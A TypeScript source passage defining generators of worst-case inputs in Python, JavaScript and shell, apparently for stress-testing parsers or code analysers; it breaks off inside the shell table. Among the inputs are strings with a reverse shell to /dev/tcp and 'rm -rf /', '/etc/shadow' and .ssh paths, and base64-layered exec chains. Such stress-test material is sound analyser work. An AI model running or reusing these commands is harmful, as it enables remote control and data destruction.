/** Texts that are made to cost as much as they can, by family; each grows to the length that it is asked for. */
export type Family = (length: number) => string;

/** As many as fit, numbered. */
function many(make: (index: number) => string, separator = ""): Family {
  return (length) => {
    const pieces: string[] = [];
    let used = 0;
    for (let index = 0; ; index++) {
      const piece = make(index) + separator;
      if (used + piece.length > length) break;
      pieces.push(piece);
      used += piece.length;
    }
    return pieces.join("");
  };
}

/** The same piece over and over, within something. */
function within(before: string, piece: string, after = ""): Family {
  return (length) =>
    before +
    piece.repeat(Math.max(0, Math.floor((length - before.length - after.length) / piece.length))) +
    after;
}

/** Opened and closed as often as it fits. */
function nested(open: string, close: string, core = "x"): Family {
  return (length) => {
    const times = Math.floor((length - core.length) / (open.length + close.length));
    return open.repeat(times) + core + close.repeat(times);
  };
}

/** A fixed part, then as much of another family as fits. */
function after(start: string, family: Family, end = ""): Family {
  return (length) => start + family(length - start.length - end.length) + end;
}

/** Half of one family, half of another. */
function halves(first: Family, second: Family, between = ""): Family {
  return (length) => {
    const half = Math.floor((length - between.length) / 2);
    return first(half) + between + second(half);
  };
}

/** A family packed as one word for another reader. */
function packed(
  start: string,
  family: Family,
  pack: (text: string) => string,
  end: string,
  rate: number,
): Family {
  return (length) => start + pack(family(Math.floor((length - start.length - end.length) / rate))) + end;
}

const singleQuoted = (text: string) => `'${text.replaceAll("'", "'\\''")}'`;
const base64 = (text: string) => Buffer.from(text).toString("base64");

/** Brackets and the like that any of the parsers may have to recover from. */
const BROKEN: Readonly<Record<string, Family>> = Object.fromEntries(
  [
    ..."()[]{}<>'\"`$\\#;:,.=+-*/%&|^~!?@\n\t a1",
    "({",
    "[(",
    "}{",
    ")(",
    "](",
    "(]",
    "{)",
    "({[",
    ")]}",
    "\"'",
    "${",
    "`${",
    "$(",
    "$((",
    "<(",
    "<<a\n",
    "<<-a ",
    "\\\n",
    "\n ",
    "a ",
    "a,",
    "a.",
    "a(",
    "a[",
    "a{",
    "a:",
    "a=",
    "a;",
    "a?",
    "a<",
    "a<b>",
    "a=>",
    "a/",
    "</a>",
    "<a>",
    "@a",
    "f'{",
    'f"{a:{',
    "'''",
    "if ",
    "if a:",
    "if(",
    "else ",
    "for ",
    "def ",
    "def a(",
    "class ",
    "class a{",
    "lambda ",
    "lambda a:",
    "function ",
    "function(",
    "async ",
    "await ",
    "yield ",
    "import ",
    "from a import ",
    "return ",
    "not ",
    "new ",
    "case a) ",
    "do ",
    "while a; do ",
    "then ",
    "match a:\n case ",
    "print a,",
    "exec a in ",
    "type a=",
    "a if a else ",
    "a for a in ",
    "*a,",
    "**a,",
    "a:=",
    "let ",
    "a?b:",
    "a=>{",
    "(a,",
    "(a=",
    "({a:",
    "[a,",
    "a<a,",
    "a as ",
    "/*",
    "//",
    "/a",
    "é(",
    "\ud83d\ude00",
    "\ud800",
    "\u202e",
    "\r",
    "\u2028",
  ].map((piece) => [`broken ${JSON.stringify(piece)}`, within("", piece)]),
);

const indented: Family = (length) => {
  const lines: string[] = [];
  let used = 0;
  for (let depth = 0; used + depth + 8 < length; depth++) {
    lines.push(`${" ".repeat(depth)}if a:`);
    used += depth + 6;
  }
  return lines.join("\n");
};

const dents: Family = (length) => {
  const lines: string[] = [];
  let used = 0;
  for (let index = 0; used < length - 200; index++) {
    const line = `${" ".repeat((index * 7) % 90)}if a:`;
    lines.push(line);
    used += line.length + 1;
  }
  return lines.join("\n");
};

export const PYTHON: Readonly<Record<string, Family>> = {
  ...BROKEN,
  "nested (": nested("(", ")"),
  "nested [": nested("[", "]"),
  "nested {": nested("{", "}"),
  "nested {a:": nested("{1:", "}"),
  "nested calls": nested("f(", ")"),
  "nested os.system(": nested("os.system(", ")"),
  "nested eval(": nested("eval(", ")"),
  "nested exec('": nested("exec(", ")"),
  "nested getattr(": nested("getattr(", ",'a')"),
  "nested __import__(": nested("__import__(", ")"),
  "nested lambda": nested("(lambda a:", ")"),
  "nested comprehension": nested("[", " for a in a]"),
  "nested f-string": nested("f'{", "}'"),
  "nested subscript": nested("a[", "]"),
  "nested str.join": nested("''.join([", "])"),
  "nested replace": nested("a.replace(", ",'b')"),
  "nested not": within("", "not ", "a"),
  "nested unary": within("", "-", "a"),
  "nested indent": indented,
  "in and out": dents,
  "nested one-line if": within("", "if a: ", "b"),
  "nested ternary": within("", "a if a else ", "a"),
  "chained attributes": within("a", ".b"),
  "chained calls": within("a", "()"),
  "chained method calls": within("a", ".b()"),
  "chained os.system calls": within("import os\nos", ".system('a')"),
  "chained subscripts": within("a", "[0]"),
  "chained string subscripts": within("'a'", "[::-1]"),
  "chained replace": within("x='aaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'\nx", ".replace('a','aa')"),
  "chained decode": within("b''", ".decode()"),
  "chained comparison": within("a", "<a"),
  "long sum of names": within("a", "+a"),
  "long sum of texts": within("'a'", "+'a'"),
  "long sum in os.system": within("import os\nos.system('a'", "+'a'", ")"),
  "long sum with %": within("'%s'", "%'%s'"),
  "text times": within("'a'", "*9"),
  "side by side texts": within("", "'a' "),
  "side by side f-strings": within("x=1\n", "f'{x}' "),
  "long f-string": within("x='a'\nf'", "{x}", "'"),
  "long text": within("'", "a", "'"),
  "long escapes": within("'", "\\x61", "'"),
  "long octal escapes": within("'", "\\1", "'"),
  "long named escapes": within("'", "\\N{a}", "'"),
  "escapes that do not end": within("'", "\\N{", "'"),
  "long comment": within("#", "a"),
  comments: within("", "#\n"),
  "long name": within("", "a"),
  "long number": within("", "1"),
  "many names": many((i) => `a${i}\n`),
  "many lines": within("", "a\n"),
  "many assignments": many((i) => `a${i}=1\n`),
  "chain of names": many((i) => `a${i + 1}=a${i}\n`),
  "chain of names, called": after(
    "import os\na0=os.system\n",
    many((i) => `a${i + 1}=a${i}\n`),
  ),
  "chain of names backwards": many((i) => `a${i}=a${i + 1}\na${i}('x')\n`),
  "doubling texts": after(
    "a0='aaaaaaaa'\n",
    many((i) => `a${i + 1}=a${i}+a${i}\n`),
  ),
  "doubling texts from 24": (length) =>
    `a0='aaaaaaaa'\n${Array.from({ length: 24 }, (_, i) => `a${i + 1}=a${i}+a${i}\n`).join("")}${within("import os\n", "os.system(a23)\n")(length - 600)}`,
  "doubling binary from 24": (length) =>
    `a0=b\n${Array.from({ length: 24 }, (_, i) => `a${i + 1}=a${i}+a${i}\n`).join("")}${within("import os\n", "os.system(a22)\n")(length - 600)}`,
  "doubling words": (length) =>
    `a0=['a']\n${Array.from({ length: 24 }, (_, i) => `a${i + 1}=a${i}+a${i}\n`).join("")}${within("import subprocess\n", "subprocess.run(a22)\n")(length - 600)}`,
  "doubling paths": (length) =>
    `${Array.from({ length: 24 }, (_, i) => `a${i + 1}=getattr(a${i}(a${i}),a${i}(a${i}))\n`).join("")}${within("", "a24()\n")(length - 1000)}`,
  "doubling f-strings": many((i) => `a${i + 1}=f'{a${i}}{a${i}}'\n`),
  "doubling joins": many((i) => `a${i + 1}=''.join([a${i},a${i}])\n`),
  "doubling replaces": after(
    "a0='aa'\n",
    many((i) => `a${i + 1}=a${i}.replace('a','aa')\n`),
  ),
  "doubling formats": after(
    "a0='{}{}'\n",
    many((i) => `a${i + 1}=a${i}.format(a${i})\n`),
  ),
  "long text through functions": (length) =>
    `x='${"a".repeat(16000)}'\n${many((i) => `y${i}=x[::-1].replace('a','b').upper()\n`)(length - 16100)}`,
  "long text, used often": (length) =>
    `x='${"a".repeat(Math.floor(length / 2))}'\n${within("import os\n", "os.system(x)\n")(Math.floor(length / 2) - 20)}`,
  "long text, reversed often": (length) =>
    `x='${"a".repeat(60000)}'\n${within("import os\n", "os.system(x[::-1])\n")(Math.max(0, length - 60020))}`,
  "long path, opened often": (length) =>
    `x='${"../".repeat(Math.floor(length / 6))}'\n${within("", "open(x)\n")(Math.floor(length / 2) - 20)}`,
  "different paths": many((i) => `open('/home/${i}/.ssh/../a')\n`),
  "many values of a name": many((i) => `a='${i}'\n`),
  "many values, concatenated": many((i) => `a='${i}'\nb=a+a+b\n`),
  "many += ": many((i) => `a+='${i}'\n`),
  "many += of itself": within("a='a'\n", "a+=a\n"),
  "many names of everything": many((i) => `a=b${i};b${i}=a\n`),
  "circle of names": within("", "a=b\nb=c\nc=a\n"),
  "circle of functions": many((i) => `def f${i}(x):\n return f${i + 1}(x)+f${i + 2}(x)\n`),
  "functions that call all": many((i) => `def f${i}(x):\n return f0(f${i}(x))+'a'\nf${i}('a')\n`),
  "functions with parameters": many((i) => `def f(a,b,c,d):\n return f(b,c,d,a)\nf('${i}','b','c','d')\n`),
  "same function, called often": within("def f(a):\n return a+a+f(a+'b')\n", "f('a')\n"),
  "many functions": many((i) => `def f${i}():pass\n`),
  "nested functions": (length) => {
    const lines: string[] = [];
    let used = 0;
    for (let i = 0; used < length - 500; i++) {
      const line = `${" ".repeat(i % 300)}def f${i}(a${i}):`;
      lines.push(line);
      used += line.length + 1;
    }
    return lines.join("\n");
  },
  "many returns": within("def f():\n", " return 'a'\n", "f()\n"),
  "many parameters": many((i) => `a${i}`, ","),
  "function with many parameters": (length) => `def f(${many((i) => `a${i}=1`, ",")(length - 20)}):pass\n`,
  "call with many arguments": within("f(", "a,", ")"),
  "os.system with many arguments": within("import os\nos.system(", "a,", ")"),
  "subprocess with many words": within("import subprocess\nsubprocess.run([", "'a',", "])"),
  "many classes": many((i) => `class A${i}(A${i - 1}):\n a=A${i}\n`),
  "classes with methods": many((i) => `class A${i}:\n def f(self):self.a=self.b;self.b=self.a\n`),
  "self attributes": many((i) => `self.a${i}=self.a${i + 1}\n`),
  "many imports": many((i) => `import a${i}\n`),
  "import of many": (length) => `import ${many((i) => `a${i}`, ",")(length - 10)}a`,
  "import of deep": within("import a", ".a"),
  "from import of many": (length) => `from os import ${many((i) => `a${i}`, ",")(length - 20)}a`,
  "star imports": within("", "from os import *\n"),
  "many os.system": many((i) => `os.system('a${i}')\n`),
  "import, many os.system": after(
    "import os\n",
    many((i) => `os.system('a${i}')\n`),
  ),
  "import, os.system of shells": after(
    "import os\n",
    many((i) => `os.system('sh -c "$(a${i})"')\n`),
  ),
  "import, os.system of python": after(
    "import os\n",
    many((i) => `os.system('python3 -c "import os;os.system(1)#${i}"')\n`),
  ),
  "many evals": many((i) => `eval('a${i}')\n`),
  "many exec of exec": many((i) => `exec("exec('a${i}')")\n`),
  "one eval of much": packed("eval('''", within("", "(1,"), (text) => text, "''')", 1),
  "one exec of broken": packed("exec('''", within("", "({["), (text) => text, "''')", 1),
  "many evals of much": (length) => many((i) => `eval('''${"(".repeat(900)}${i}''')\n`)(length),
  "os.system of much": packed("import os\nos.system('''", within("", "$(("), (text) => text, "''')", 1),
  "base64 of much": packed("import base64\nexec(base64.b64decode('", within("", "({["), base64, "'))", 1.34),
  "base64 layers": (length) => {
    let text = "a";
    for (;;) {
      const next = `exec(__import__('base64').b64decode('${base64(text)}'))`;
      if (next.length > length) return text;
      text = next;
    }
  },
  "handed on": within("import os\n", "os,"),
  "handed on in calls": within("import os\n", "f(os)\n"),
  "handed on deep": after("import os\n", nested("f(", ")", "os")),
  "handed on often, deep": (length) =>
    `import os\n${"(".repeat(Math.floor(length / 3))}${"os,".repeat(Math.floor(length / 6))}${")".repeat(Math.floor(length / 6))}`,
  "handed on in parentheses": (length) => many(() => `${"(".repeat(100)}os${")".repeat(100)}\n`)(length),
  "many identifiers of long": (length) => `import os\n${within("", "x.os.system\n")(length - 20)}`,
  "many chr": within("x=", "chr(97)+", "''"),
  "join of chr": within("''.join(chr(x) for x in [", "97,", "])"),
  "map chr": within("''.join(map(chr,[", "97,", "]))"),
  "comprehension over many": within("[a+a+a+a for a in [", "'a',", "]]"),
  "comprehensions over many": (length) =>
    `x=[${"'a',".repeat(1024)}]\n${within("", "[a+a+a+a for a in x]\n")(length - 5000)}`,
  "comprehensions of comprehensions": (length) =>
    `x=[${"'a',".repeat(1024)}]\n${within("", "[[b+a for b in x] for a in x]\n")(length - 5000)}`,
  "lists of lists": after(
    "a0=['a']\n",
    many((i) => `a${i + 1}=[a${i},a${i},a${i}]\n`),
  ),
  "dicts of dicts": after(
    "a0={'a':1}\n",
    many((i) => `a${i + 1}={'a':a${i},'b':a${i}}\na${i + 1}['a']['b']\n`),
  ),
  "long list": within("a=[", "1,", "]"),
  "long list, indexed": (length) => `a=[${"'a',".repeat(1024)}]\n${within("", "a[3]\n")(length - 5000)}`,
  "long dict": many((i) => `'a${i}':1`, ","),
  "long dict, read": (length) =>
    `a={${many((i) => `'a${i}':1`, ",")(9000)}}\n${within("", "a['a7']\n")(length - 9100)}`,
  loops: within("", "while True:\n a=1\n"),
  "nested loops": (length) => {
    const lines: string[] = [];
    let used = 0;
    for (let i = 0; used < length - 500; i++) {
      const line = `${" ".repeat(i % 400)}while True:`;
      lines.push(line);
      used += line.length + 1;
    }
    return lines.join("\n");
  },
  "for loops": many((i) => `for a${i} in a${i + 1}:a${i}\n`),
  with: many((i) => `with a${i} as a${i + 1}:pass\n`),
  try: within("", "try:\n a\nexcept A as b:\n c\n"),
  walrus: many((i) => `(a${i}:=a${i + 1})\n`),
  globals: many((i) => `global a${i}\n`),
  patterns: many((i) => `(a${i},(b${i},c))=d,e\n`),
  "nested pattern": nested("(", ",)", "a"),
  "nested pattern assigned": after("", nested("(", ",)", "a"), "=b"),
  "nested list pattern assigned": after("", nested("[", "]", "a"), "=b"),
  del: within("del a", ",a"),
  decorators: within("", "@a\n", "def f():pass"),
  match: within("match a:\n", " case [a,b]:\n  c\n"),
  "nested match": nested("[", "]", "a"),
  "chained assignment": within("", "a=", "1"),
  semicolons: within("a", ";a"),
  "backslash lines": within("a", "\\\n+a"),
  types: within("a:", "b[", ""),
  "print chevron": within("print >>a", ",a"),
  "open strings": within("", "'a\n"),
  "open f-strings": within("", "f'{a\n"),
  "open triple": many((i) => `"""a${i}\n`),
  unicode: within("", "é=ü\n"),
  astral: within("'", "\ud83d\ude00", "'"),
  "secret paths": within("", "'/etc/shadow'\n"),
  urls: many((i) => `'http://a${i}.example/'\n`),
  "telling texts": within("'", "rm -rf / ; bash -i >& /dev/tcp/1.2.3.4/5 0>&1 ", "'"),
  "almost telling texts": within("'", "rm -rf -rf -rf -rf ", "'"),
  spaces: within("'", " ", "'"),
  "many telling texts": many((i) => `x='bash -i >& /dev/tcp/1.2.3.4/${i}'\n`),
};

export const JAVASCRIPT: Readonly<Record<string, Family>> = {
  ...BROKEN,
  "nested (": nested("(", ")"),
  "nested [": nested("[", "]"),
  "nested {": nested("{", "}", ""),
  "nested ({a:": nested("({a:", "})"),
  "nested {a:": after("x=", nested("{a:", "}")),
  "nested calls": nested("f(", ")"),
  "nested exec(": nested("exec(", ")"),
  "nested require(": nested("require(", ")"),
  "nested eval(": nested("eval(", ")"),
  "nested arrow": nested("(a=>", ")"),
  "nested arrows": within("", "a=>", "a"),
  "nested function": nested("function f(){", "}", ""),
  "nested function expressions": nested("(function(){", "})", ""),
  "nested called functions": nested("(function(){", "})()", ""),
  "nested class": nested("class A{a(){", "}}", ""),
  "nested template": nested("`${", "}`"),
  "nested subscript": nested("a[", "]"),
  "nested new": within("", "new ", "a"),
  "nested !": within("", "!", "a"),
  "nested typeof": within("", "typeof ", "a"),
  "nested ternary": within("", "a?a:", "a"),
  "nested ternary inside": nested("a?", ":a", "a"),
  "nested if": within("", "if(a)", "b"),
  "nested if else": within("", "if(a)b;else ", "b"),
  "nested for": within("", "for(;;)", "b"),
  "nested for of": within("", "for(a of b)", "b"),
  "nested labels": many((i) => `a${i}:`),
  "nested jsx": nested("<a>", "</a>", ""),
  "nested blocks": nested("{", "}", "a"),
  "nested destructuring": after("let ", nested("{a:", "}"), "=b"),
  "nested array destructuring": after("let ", nested("[", "]"), "=b"),
  "nested destructuring of require": after("let ", nested("{a:", "}"), "=require('child_process')"),
  "nested async arrows": nested("async()=>{await ", "}", "a"),
  "chained attributes": within("a", ".b"),
  "chained calls": within("a", "()"),
  "chained method calls": within("a", ".b()"),
  "chained then": within("a", ".then(b)"),
  "chained then arrows": within("a", ".then(x=>x)"),
  "chained optional": within("a", "?.b"),
  "chained subscripts": within("a", "[0]"),
  "chained replace": within("x='aaaaaaaaaaaaaa';x", ".replace(/a/g,'aa')"),
  "chained replaceAll": within("x='aaaaaaaaaaaaaa';x", ".replaceAll('a','aa')"),
  "chained comparison": within("a", "<a"),
  "chained exec": within("require('child_process')", ".exec('a')"),
  "tagged templates": within("a", "`b`"),
  comma: within("a", ",a"),
  "long sum of names": within("a", "+a"),
  "long sum of texts": within("'a'", "+'a'"),
  "long sum in exec": within("require('child_process').exec('a'", "+'a'", ")"),
  "long template": within("x='a';`", "${x}", "`"),
  "long text": within("'", "a", "'"),
  "long escapes": within("'", "\\x61", "'"),
  "long unicode escapes": within("'", "\\u{61}", "'"),
  "escapes that do not end": within("'", "\\u{", "'"),
  "long comment": within("//", "a"),
  "block comments": within("", "/**/"),
  "long name": within("", "a"),
  "many lines": within("", "a\n"),
  "many statements": within("", "a;"),
  "many assignments": many((i) => `a${i}=1;`),
  "many let": many((i) => `let a${i}=1;`),
  "let of many": (length) => `let ${many((i) => `a${i}=1`, ",")(length - 10)}a`,
  "chain of names": many((i) => `a${i + 1}=a${i};`),
  "chain of names, called": after(
    "a0=require('child_process').exec;",
    many((i) => `a${i + 1}=a${i};a${i}('x');`),
  ),
  "doubling texts": after(
    "a0='aaaaaaaa';",
    many((i) => `a${i + 1}=a${i}+a${i};`),
  ),
  "doubling texts from 24": (length) =>
    `a0='aaaaaaaa';${Array.from({ length: 24 }, (_, i) => `a${i + 1}=a${i}+a${i};`).join("")}${within("x=require('child_process');", "x.exec(a23);")(length - 600)}`,
  "doubling unknowns from 24": (length) =>
    `${Array.from({ length: 24 }, (_, i) => `a${i + 1}=a${i}+a${i};`).join("")}${within("x=require('child_process');", "x.exec(a22);")(length - 600)}`,
  "doubling words": (length) =>
    `a0=['a'];${Array.from({ length: 24 }, (_, i) => `a${i + 1}=[...a${i},...a${i}];`).join("")}${within("x=require('child_process');", "x.spawn('a',a22);")(length - 600)}`,
  "doubling paths": (length) =>
    `${Array.from({ length: 24 }, (_, i) => `a${i + 1}=a${i}(a${i})[a${i}(a${i})];`).join("")}${within("", "a24();")(length - 1000)}`,
  "doubling templates": many((i) => `a${i + 1}=\`\${a${i}}\${a${i}}\`;`),
  "doubling joins": many((i) => `a${i + 1}=[a${i},a${i}].join('');`),
  "doubling concat": many((i) => `a${i + 1}=a${i}.concat(a${i});`),
  "doubling replaces": after(
    "a0='aa';",
    many((i) => `a${i + 1}=a${i}.replaceAll('a','aa');`),
  ),
  "long text through functions": (length) =>
    `x='${"a".repeat(16000)}';${many((i) => `y${i}=x.split('').reverse().join('');`)(length - 16100)}`,
  "long text, used often": (length) =>
    `x='${"a".repeat(Math.floor(length / 2))}';y=require('child_process');${within("", "y.exec(x);")(Math.floor(length / 2) - 60)}`,
  "long path, opened often": (length) =>
    `x='${"../".repeat(Math.floor(length / 6))}';fs=require('fs');${within("", "fs.readFileSync(x);")(Math.floor(length / 2) - 60)}`,
  "many values of a name": many((i) => `a='${i}';`),
  "many values, concatenated": many((i) => `a='${i}';b=a+a+b;`),
  "many += ": many((i) => `a+='${i}';`),
  "many += of itself": within("a='a';", "a+=a;"),
  "many ++": within("", "a++;"),
  "circle of names": within("", "a=b;b=c;c=a;"),
  "circle of functions": many((i) => `function f${i}(x){return f${i + 1}(x)+f${i + 2}(x)}`),
  "circle of arrows": many((i) => `f${i}=x=>f${i + 1}(x)+f${i + 2}(x);`),
  "functions that call all": many((i) => `function f${i}(x){return f0(f${i}(x))+'a'}f${i}('a');`),
  "same function, called often": within("function f(a){return a+a+f(a+'b')}", "f('a');"),
  "many functions": many((i) => `function f${i}(){}`),
  "function with many parameters": (length) => `function f(${many((i) => `a${i}=1`, ",")(length - 20)}a){}`,
  "functions with parameters in parameters": nested("(a=", ")=>a", "b"),
  "nested default parameters": nested("function(a=", "){}", "b"),
  "nested default parameters, arrow": nested("((a=", ")=>a)", "b"),
  "call with many arguments": within("f(", "a,", "a)"),
  "spawn with many words": within("require('child_process').spawn('a',[", "'a',", "])"),
  "many classes": many((i) => `class A${i} extends A${i - 1}{a=A${i}}`),
  "this attributes": many((i) => `this.a${i}=this.a${i + 1};`),
  "many imports": many((i) => `import a${i} from 'a${i}';`),
  "import of many": (length) => `import {${many((i) => `a${i}`, ",")(length - 30)}a} from 'fs'`,
  "many requires": many((i) => `a${i}=require('a${i}');`),
  exports: many((i) => `export const a${i}=1;`),
  "many exec": after(
    "x=require('child_process');",
    many((i) => `x.exec('a${i}');`),
  ),
  "many exec of shells": after(
    "x=require('child_process');",
    many((i) => `x.exec('sh -c "$(a${i})"');`),
  ),
  "many exec of node": after(
    "x=require('child_process');",
    many((i) => `x.exec('node -e "eval(1)//${i}"');`),
  ),
  "many evals": many((i) => `eval('a${i}');`),
  "many new Function": many((i) => `new Function('a${i}');`),
  "one eval of much": packed("eval('", within("", "(1,"), (text) => text, "')", 1),
  "one eval of broken": packed("eval('", within("", "({["), (text) => text, "')", 1),
  "many evals of much": many((i) => `eval('${"(".repeat(900)}${i}');`),
  "exec of much": packed("require('child_process').exec('", within("", "$(("), (text) => text, "')", 1),
  "atob of much": packed("eval(atob('", within("", "({["), base64, "'))", 1.34),
  "base64 layers": (length) => {
    let text = "a";
    for (;;) {
      const next = `eval(atob('${base64(text)}'))`;
      if (next.length > length) return text;
      text = next;
    }
  },
  "handed on": within("x=require('child_process');", "x,", "x"),
  "handed on in calls": within("x=require('child_process');", "f(x);"),
  "handed on deep": after("x=require('child_process');", nested("f(", ")", "x")),
  "handed on often, deep": (length) =>
    `x=require('child_process');${"(".repeat(Math.floor(length / 3))}${"x,".repeat(Math.floor(length / 8))}x${")".repeat(Math.floor(length / 3))}`,
  fromCharCode: within("String.fromCharCode(", "97,", "97)"),
  "map over many": within("[", "'a',", "].map(a=>a+a+a+a)"),
  "maps over many": (length) =>
    `x=[${"'a',".repeat(1024)}];${within("", "x.map(a=>a+a+a+a);")(length - 5000)}`,
  "maps of maps": (length) =>
    `x=[${"'a',".repeat(1024)}];${within("", "x.map(a=>x.map(b=>b+a));")(length - 5000)}`,
  "lists of lists": after(
    "a0=['a'];",
    many((i) => `a${i + 1}=[a${i},a${i},a${i}];`),
  ),
  "objects of objects": after(
    "a0={a:1};",
    many((i) => `a${i + 1}={a:a${i},b:a${i}};a${i + 1}.a.b;`),
  ),
  "long list": within("a=[", "1,", "]"),
  "list with holes": within("a=[", ",", "]"),
  "long list, indexed": (length) => `a=[${"'a',".repeat(1024)}];${within("", "a[3];")(length - 5000)}`,
  "long object": (length) => `a={${many((i) => `a${i}:1`, ",")(length - 10)}}`,
  "long object, read": (length) =>
    `a={${many((i) => `a${i}:1`, ",")(9000)}};${within("", "a['a7'];")(length - 9100)}`,
  loops: within("", "while(1){a=1}"),
  "nested loops": nested("while(1){", "}", ""),
  "for loops": many((i) => `for(let a${i} of a${i + 1})a${i};`),
  switch: within("switch(a){", "case 1:b;", "}"),
  "nested switch": nested("switch(a){case 1:", "}", ""),
  try: within("", "try{a}catch(b){c}"),
  "nested try": nested("try{", "}catch(a){}", ""),
  "regular expressions": within("", "/a/.test(b);"),
  "long regular expression": within("/", "[", "]/"),
  "open regular expressions": within("", "=/a\n"),
  "open texts": within("", "'a\n"),
  "open templates": within("", "`${a\n"),
  "arrow or parenthesis": nested("(a,", ")", "a"),
  "arrow or parenthesis, deep": nested("(a,{b:", "})", "a"),
  "generic or less": within("", "a<b,", "c"),
  "generic calls": nested("a<", ">", "b"),
  types: within("let a:", "b|", "c"),
  "nested types": after("let a:", nested("[", "]", "b")),
  "nested object types": after("type a=", nested("{a:", "}", "b")),
  "conditional types": after("type a=", within("", "a extends b?c:", "d")),
  "function types": after("let a:", within("", "(a:b)=>", "c")),
  "nested function types": after("let a:", nested("((a:", ")=>b)", "c")),
  casts: within("", "<a>", "b"),
  as: within("a", " as b"),
  "non-null": within("a", "!"),
  decorators: within("", "@a ", "class A{}"),
  "nested generics": after("let a:", nested("A<", ">", "b")),
  "async arrow or call": nested("async(", ")", "a"),
  "async arrow or call, unfinished": within("", "async(a,"),
  "get set static": within("class A{", "get set static async ", "}"),
  "object or block": nested("({", "})", "a"),
  in: within("a", " in a"),
  asi: within("", "a\n(b)\n"),
  asi2: within("", "let\nasync\nof\n"),
  "html comments": within("", "<!--\n"),
  unicode: within("", "é=ü;"),
  astral: within("'", "\ud83d\ude00", "'"),
  "telling texts": within("'", "rm -rf / ; bash -i >& /dev/tcp/1.2.3.4/5 0>&1 ", "'"),
};

export const SHELL: Readonly<Record<string, Family>> = {
  ...BROKEN,
  commands: many((i) => `a${i}\n`),
  "short commands": within("", "a;"),
  and: within("a", "&&a"),
  or: within("a", "||a"),
  background: within("", "a&"),
  pipeline: within("a", "|a"),
  "pipeline of echo": within("echo aaaaaaaaaa", "|cat"),
  "pipeline into sh": within("echo a", "|sh"),
  "pipeline of base64": within("echo a", "|base64"),
  "pipeline of tee": within("echo a", "|tee b"),
  "pipeline of rev": within("echo a", "|rev"),
  "pipeline of substitutions": within("a", "|$(a)"),
  "long word": within("", "a"),
  "many words": within("a ", "a "),
  "echo of many": within("echo ", "a "),
  "many quoted": within("a ", "'a' "),
  "many double-quoted": within("a ", '"a" '),
  "many empty": within("a ", "'' "),
  "side by side quotes": within("a ", "'a'\"b\""),
  escaped: within("a ", "\\a"),
  "ansi-c": within("a $'", "\\x61", "'"),
  "many ansi-c": within("a ", "$'a'"),
  "nested $(": nested("$(", ")"),
  "nested $( in quotes": nested('"$(', ')"'),
  "nested $( within the limit": many(() => `${"$(".repeat(70)}a${")".repeat(70)}\n`),
  "nested $( twice": (length) => {
    let text = "a";
    while (2 * text.length + 8 < length) text = `$(${text})$(${text})`;
    return text;
  },
  "nested `": within("", "\\`", ""),
  backquotes: within("", "`a` "),
  "backquotes doubling": (length) => {
    let text = "a";
    for (;;) {
      const next = `\`${text.replaceAll("\\", "\\\\").replaceAll("`", "\\`")}\``;
      if (next.length > length) return text;
      text = next;
    }
  },
  "backquotes of much": (length) => `\`${within("", "a;")(length - 2)}\``,
  "backquotes in backquotes of much": (length) =>
    `\`\\\`\\\\\\\`${within("", "a;")(length - 40)}\\\\\\\`\\\`\``,
  "nested ${": nested("${a:-", "}"),
  "nested ${ in quotes": nested('"${a:-', '}"'),
  "nested ${ within the limit": many(() => `${"${a:-".repeat(35)}a${"}".repeat(35)}\n`),
  "nested $((": nested("$((", "))"),
  "nested ((": nested("((", "))"),
  "nested ( (": nested("( ", " )"),
  "nested (( unfinished": within("", "(("),
  "$(( unfinished": within("", "$(( "),
  "((a) (": within("", "((a) "),
  "$((a) ": within("", "$((a) "),
  "$((a)) often": within("a ", "$((1)) "),
  "$((a) ) often": within("a ", "$((a) ) "),
  "$[": nested("$[", "]"),
  "arithmetic of names": within("a=1\n((", "a+", "a))"),
  "arithmetic of many names": within("a=1\n", "((a))\n"),
  "arithmetic texts": within("a='b[$(c)]'\n", "((a))\n"),
  "arithmetic subscripts": within("", "a='b[$(c)]'\n"),
  subscripts: within("", "a b[$(c)]\n"),
  "subscripts that say themselves": within("x='a[$(b)]'\n", "x=$x$x\n"),
  "nested {": nested("{ ", ";}", "a"),
  "nested if": nested("if a;then ", ";fi", "a"),
  "nested if in the condition": nested("if ", ";then a;fi", "a"),
  "nested while": nested("while a;do ", ";done", "a"),
  "nested until in the condition": nested("until ", ";do a;done", "a"),
  "nested for": nested("for a in b c;do ", ";done", "a"),
  "nested for within the limit": many(() => `${"for a in 1 2;do ".repeat(12)}a${";done".repeat(12)}\n`),
  "nested for, few": many(() => `${"for a in 1 2 3 4;do ".repeat(7)}$a${";done".repeat(7)}\n`),
  "for of 16": many(() => "for a in 1 2 3 4 5 6 7 8 9 0 1 2 3 4 5 6;do $a;done\n"),
  "for over much": (length) =>
    `for a in 1 2 3 4 5 6 7 8 9 0 1 2 3 4 5 6;do ${within("", "a;")(length - 60)}done`,
  "for for over much": (length) =>
    `for a in 1 2 3 4 5 6 7 8 9 0;do for b in 1 2 3 4 5 6 7 8 9 0;do ${within("", "a;")(length - 90)}done;done`,
  "for of many": within("for a in ", "b ", ";do a;done"),
  "for arithmetic": nested("for((a;b;c));do ", ";done", "a"),
  "nested case": nested("case a in b)", ";;esac", "a"),
  "case of many": within("case a in ", "b)c;;", "esac"),
  "case with &": within("case a in ", "b)c;&", "esac"),
  "case patterns": within("case a in ", "b|", "b)c;;esac"),
  "case of assignments": many((i) => `case a in b)a${i}=1;;c)a${i}=2;;esac\n`),
  "case branches that assign": (length) =>
    `case a in ${many((i) => `b)a${i % 256}=${i};;`)(length - 20)} esac`,
  "if branches that assign": (length) =>
    `if a;then b;${many((i) => `elif a;then a${i % 256}=${i};`)(length - 20)}fi`,
  select: nested("select a in b;do ", ";done", "a"),
  functions: many((i) => `f${i}(){ a;}\n`),
  "functions, called": many((i) => `f${i}(){ f${i - 1};f${i - 1};}\n`),
  "functions, called from behind": many((i) => `f${i}(){ f${i + 1};f${i + 1};}\n`),
  "functions that call all": many(
    (i) => `f${i % 16}(){ ${Array.from({ length: 16 }, (_, j) => `f${j}`).join(";")};}\n`,
  ),
  "function, called often": within("f(){ a;b;c;}\n", "f\n"),
  "function, called with many": within("f(){ a $@;}\nf ", "b "),
  "function that doubles": within("f(){ f $@ $@;}\nf a ", "b "),
  "functions in subshells": halves(
    many((i) => `f${i}(){ a;}\n`),
    within("", "(a)\n"),
  ),
  "functions in pipelines": halves(
    many((i) => `f${i}(){ a;}\n`),
    within("", "a|b\n"),
  ),
  "functions in functions": nested("f(){ ", ";}", "a"),
  "functions in functions within the limit": many((i) => `${`f${i}(){ `.repeat(20)}a${";}".repeat(20)}\n`),
